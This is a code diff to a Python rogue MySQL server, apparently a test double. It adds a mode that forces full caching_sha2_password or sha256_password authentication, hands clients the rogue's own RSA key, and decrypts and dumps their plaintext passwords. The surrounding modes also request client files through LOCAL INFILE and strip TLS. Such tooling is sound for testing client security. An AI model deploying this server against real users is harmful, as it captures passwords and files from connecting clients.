@@ -11,7 +11,14 @@ Modes of the standalone server (it offers no TLS, ever):
   (default)                 accept any login; answer queries with OK
   --auth-switch PLUGIN      after the client's handshake response, ask it to
                             switch to PLUGIN (mysql_clear_password, dialog,
-                            sha256_password...); record what comes back
+                            sha256_password...); record what comes back.
+                            caching_sha2_password then asks for the full
+                            authentication, as after a restart of MySQL;
+                            it and sha256_password serve the rogue's own RSA
+                            public key on request (made at start in
+                            --rsa-dir) and decrypt what comes back with its
+                            private key: the plaintext, XORed with the
+                            nonce as the server does, goes to --dump too
   --infile PATH             answer every query (or the first matching
                             --infile-on REGEX per connection) with a LOCAL
                             INFILE request for PATH
@@ -32,6 +39,9 @@ import socket
 import struct
 import sys
 import threading
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "mysqld"))
+import myauth  # noqa: E402  (the double's RSA-OAEP, standard library only)
 
 CLIENT_LONG_PASSWORD = 0x1
 CLIENT_FOUND_ROWS = 0x2
@@ -56,6 +66,7 @@ SERVER_CAPS = (CLIENT_LONG_PASSWORD | CLIENT_FOUND_ROWS | CLIENT_LONG_FLAG |
 
 lock = threading.Lock()
 args = None
+rsa = None
 
 
 def log(conn, event, **kw):
@@ -137,6 +148,36 @@ def serve_infile(cs, conn_id, path):
     write_packet(cs, seq + 1, ok_packet())
 
 
+def steal_rsa(cs, conn_id, seq, p, scramble):
+    """The rest of caching_sha2_password's full authentication, or of
+    sha256_password, played to get the password: the rogue's key on
+    request, then its decryption. Returns the next sequence number."""
+    try:
+        if args.auth_switch == "caching_sha2_password":
+            # whatever the scramble, as MySQL with a cold cache
+            write_packet(cs, seq, b"\x01\x04")
+            log(conn_id, "full_auth_asked")
+            seq, p = read_packet(cs)
+            seq += 1
+        if p in (b"\x01", b"\x02"):
+            write_packet(cs, seq, b"\x01" + rsa.pem)
+            log(conn_id, "key_request")
+            seq, p = read_packet(cs)
+            seq += 1
+    except Closed:
+        log(conn_id, "closed_at_full_auth")
+        raise
+    try:
+        plain = rsa.decrypt_oaep(p)
+    except ValueError:
+        log(conn_id, "rsa_undecryptable", bytes=len(p))
+        return seq
+    plain = bytes(c ^ scramble[i % len(scramble)] for i, c in enumerate(plain))
+    dump(plain)
+    log(conn_id, "rsa_decrypted", bytes=len(plain))
+    return seq
+
+
 def rogue(cs, conn_id):
     scramble = os.urandom(20).replace(b"\x00", b"\x01")
     write_packet(cs, 0, greeting(conn_id, scramble))
@@ -159,6 +200,8 @@ def rogue(cs, conn_id):
             raise
         log(conn_id, "auth_switch_response", bytes=len(p))
         seq += 1
+        if args.auth_switch in ("caching_sha2_password", "sha256_password"):
+            seq = steal_rsa(cs, conn_id, seq, p, scramble)
     write_packet(cs, seq, ok_packet())
     injected = False
     while True:
@@ -241,7 +284,12 @@ def main():
     ap.add_argument("--infile-on", default=".")
     ap.add_argument("--upstream")
     ap.add_argument("--strip-tls", action="store_true")
+    ap.add_argument("--rsa-dir")
     args = ap.parse_args()
+    global rsa
+    if args.rsa_dir:
+        os.makedirs(args.rsa_dir, exist_ok=True)
+        rsa = myauth.RsaKey(args.rsa_dir)
     ls = socket.socket()
     ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     ls.bind(("127.0.0.1", 0))
